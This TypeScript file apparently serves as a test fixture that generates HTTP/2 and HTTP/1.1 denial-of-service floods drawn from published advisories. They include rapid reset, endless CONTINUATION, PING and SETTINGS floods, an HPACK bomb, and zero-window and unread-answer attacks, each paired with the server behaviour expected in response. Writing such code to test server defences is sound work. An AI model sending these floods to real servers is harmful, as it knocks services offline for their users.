/** Floods of HTTP/2, which Node's own client cannot send. They are those of the advisories that docs/security/advisories.md lists. */
import { constants } from "node:http2";
import { endHeaders, frame, literal, malformed, request, requestBlock, reset, text, type } from "./http2-frames.ts";

export interface Flood {
  readonly name: string;
  /** Parts that are written one after the other, each when the one before has left. */
  readonly parts: (path: string, message?: Uint8Array) => Generator<Buffer>;
  /** Answers are left in the socket. */
  readonly isDeaf?: boolean;
  /** Begins with its first part, without the preface of HTTP/2. */
  readonly isOtherProtocol?: boolean;
  /** False: a server may take all of it, as it costs a server less than who sends it, and keep nothing. */
  readonly endsConnection?: boolean;
  /** How many streams the server resets where it leaves the connection open, by the code. */
  readonly resets?: Readonly<Record<number, number>>;
}

const streamsOfBomb = 1_000;
const largestWindow = Buffer.of(0x7f, 0xff, 0xff, 0xff);
const perPart = 1_000;

/** One for each class of attack on a server of HTTP/2. */
export const http2Floods: readonly Flood[] = [
  { name: "rapid reset", parts: (path) => everyStream(100_000, (id) => [request(id, path), reset(id)]) },
  {
    name: "resets that the server is provoked to send",
    parts: (path) => everyStream(100_000, (id) => [malformed(id, path)]),
  },
  {
    name: "windows beyond their maximum",
    parts: (path) => everyStream(100_000, (id) => [request(id, path), frame(type.windowUpdate, 0, id, largestWindow)]),
  },
  { name: "endless CONTINUATION", parts: endlessContinuation },
  { name: "PING", isDeaf: true, parts: () => repeated(2_000_000, frame(type.ping, 0, 0, Buffer.alloc(8))) },
  { name: "SETTINGS", isDeaf: true, parts: () => repeated(2_000_000, frame(type.settings, 0, 0)) },
  {
    name: "HPACK bomb",
    endsConnection: false,
    resets: { [constants.NGHTTP2_ENHANCE_YOUR_CALM]: streamsOfBomb },
    parts: hpackBomb,
  },
  { name: "empty DATA", endsConnection: false, parts: emptyData },
  { name: "zero windows", endsConnection: false, parts: (path, message) => withoutWindow(path, message) },
  { name: "answers that are not read", isDeaf: true, endsConnection: false, parts: unreadAnswers },
];

/** Over HTTP/1.1: requests one behind the other, whose answers are left in the socket. */
export const pipelinedRequests: Flood = {
  name: "requests whose answers are not read",
  isDeaf: true,
  isOtherProtocol: true,
  parts: (path) => {
    const body = JSON.stringify({ request: { uid: "1", object: "x".repeat(1_000) } });
    const head = `POST ${path} HTTP/1.1\r\nhost: localhost\r\ncontent-type: application/json\r\n`;
    return repeated(200_000, Buffer.from(`${head}content-length: ${body.length}\r\n\r\n${body}`));
  },
};

/** Asks on `count` streams of one connection, and ends none of them. */
export function openStreams(count: number): Flood {
  return { name: `${count} streams`, endsConnection: false, parts: (path, message) => asked(path, message, count) };
}

function* everyStream(count: number, framesOf: (id: number) => readonly Buffer[]): Generator<Buffer> {
  for (let first = 0; first < count; first += perPart) {
    const frames = Array.from({ length: perPart }, (_, at) => framesOf(2 * (first + at) + 1)).flat();
    yield Buffer.concat(frames);
  }
}

function* repeated(count: number, one: Buffer): Generator<Buffer> {
  const part = Buffer.concat(Array.from({ length: perPart }, () => one));
  for (let sent = 0; sent < count; sent += perPart) yield part;
}

/** 64 MiB of headers that never end. */
function* endlessContinuation(path: string): Generator<Buffer> {
  yield frame(type.headers, 0, 1, requestBlock(path));
  const block = Buffer.concat(Array.from({ length: 100 }, (_, at) => literal(`x-${at}`, "v".repeat(100))));
  for (let sent = 0; sent < 64 * 1024 * 1024; sent += block.length) yield frame(type.continuation, 0, 1, block);
}

/** Each stream repeats an entry of 4,000 bytes of the dynamic table 10,000 times: 40 MB of headers in 10 kB. */
function* hpackBomb(path: string): Generator<Buffer> {
  const entry = Buffer.concat([Buffer.of(0x40), text("x"), text("v".repeat(4_000))]);
  const repeats = Buffer.alloc(10_000, 0xbe);
  for (let stream = 0; stream < streamsOfBomb; stream++) {
    const block = Buffer.concat([requestBlock(path), ...(stream === 0 ? [entry] : []), repeats]);
    yield frame(type.headers, endHeaders, 2 * stream + 1, block);
  }
}

function* emptyData(path: string): Generator<Buffer> {
  yield request(1, path);
  yield* repeated(200_000, frame(type.data, 0, 1));
}

/** Of each stream, and then of none: 1,000 calls whose answers find no window. */
function* withoutWindow(path: string, message?: Uint8Array): Generator<Buffer> {
  yield frame(type.settings, 0, 0, Buffer.of(0, 4, 0, 0, 0, 0));
  yield* asked(path, message, 1_000);
}

/** 1,000 calls with all the window that there is, so that the answers wait in the server or in sockets. */
function* unreadAnswers(path: string, message?: Uint8Array): Generator<Buffer> {
  yield frame(type.settings, 0, 0, Buffer.of(0, 4, 0x7f, 0xff, 0xff, 0xff));
  yield frame(type.windowUpdate, 0, 0, Buffer.of(0x7f, 0, 0, 0));
  yield* asked(path, message, 1_000);
}

function* asked(path: string, message: Uint8Array | undefined, count: number): Generator<Buffer> {
  const head = Buffer.alloc(5);
  head.writeUInt32BE(message?.length ?? 0, 1);
  const call = message === undefined ? undefined : Buffer.concat([head, message]);
  for (let at = 0; at < count; at++) {
    const id = 2 * at + 1;
    yield call === undefined ? request(id, path) : Buffer.concat([request(id, path), frame(type.data, 0, id, call)]);
  }
}
